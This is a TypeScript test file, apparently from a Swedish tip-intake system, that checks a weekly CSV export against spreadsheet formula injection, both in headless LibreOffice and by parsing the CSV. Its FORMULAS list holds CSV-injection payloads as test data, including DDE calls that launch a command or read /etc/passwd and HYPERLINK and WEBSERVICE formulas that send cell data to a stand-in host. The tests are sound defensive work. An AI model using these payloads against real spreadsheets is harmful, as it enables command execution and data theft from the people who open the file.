/** The week's file opened in a real spreadsheet: whatever an area is called, no cell becomes a formula. */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, test } from 'vitest';
import { exportWeek, formatCsv } from '../../../src/intake/export-week.ts';
import { newTip, varnamo } from './test-intake.ts';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://elak.example/?x="&A1;"Klicka")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("https://elak.example/")',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1;1)',
  '";=1+1;"',
  ';=1+1',
  'a"\r\n=1+1',
  ' =1+1',
  '=DDE("soffice";"/etc/passwd";"A1")',
];

const folder = mkdtempSync(path.join(tmpdir(), 'kalkyl-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

function hasLibreOffice(): boolean {
  try {
    execFileSync('soffice', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

/** Opens the file with semicolons, UTF-8, and formulas let loose, as a careless reader may; gives back the sheet. */
function openInSpreadsheet(name: string, csv: string): string {
  const file = path.join(folder, `${name}.csv`);
  writeFileSync(file, csv);
  const tokens = '59,34,76,1,,0,false,true,false,false,false,-1,true';
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=file://${folder}/profile`,
      '--headless',
      `--infilter=Text - txt - csv (StarCalc):${tokens}`,
      ...['--convert-to', 'fods', '--outdir', folder, file],
    ],
    { stdio: 'ignore', timeout: 100_000 },
  );
  return readFileSync(path.join(folder, `${name}.fods`), 'utf8');
}

const formulasIn = (sheet: string) => sheet.match(/table:formula=/g)?.length ?? 0;

function weekOf(names: readonly string[]): string {
  const areas = names.map((name, index) => ({ id: `omrade-${index}`, name }));
  const tips = areas.map(({ id }, index) => ({
    ...newTip({ area: id }),
    number: `2026-${String(index + 1).padStart(4, '0')}`,
    status: 'received' as const,
  }));
  return formatCsv(exportWeek({ ...varnamo, areas }, '2026-W47', tips));
}

describe('the file of the week in a spreadsheet', () => {
  test.skipIf(!hasLibreOffice())(
    'given names of areas that are formulas, then the sheet holds their words and no formula',
    () => {
      // The same opened without our care: the test sees formulas where there are some.
      expect(
        formulasIn(openInSpreadsheet('utan-skydd', FORMULAS.slice(0, 2).join('\n'))),
      ).toBeGreaterThan(0);
      const sheet = openInSpreadsheet('vecka', weekOf(FORMULAS));
      expect(sheet.match(/<[^>]*table:formula=[^>]*>[^]{0,80}/g) ?? []).toEqual([]);
      expect(sheet).toContain('Registernummer');
      expect(sheet).toContain(`2026-00${FORMULAS.length}`);
      expect(sheet).toContain('HYPERLINK');
    },
    180_000,
  );

  test('given the same names, then each is told apart from a formula in the file itself', () => {
    const rows = parse(weekOf(FORMULAS), { bom: true, delimiter: ';' });
    expect(rows).toHaveLength(FORMULAS.length + 1);
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/u);
    }
  });
});
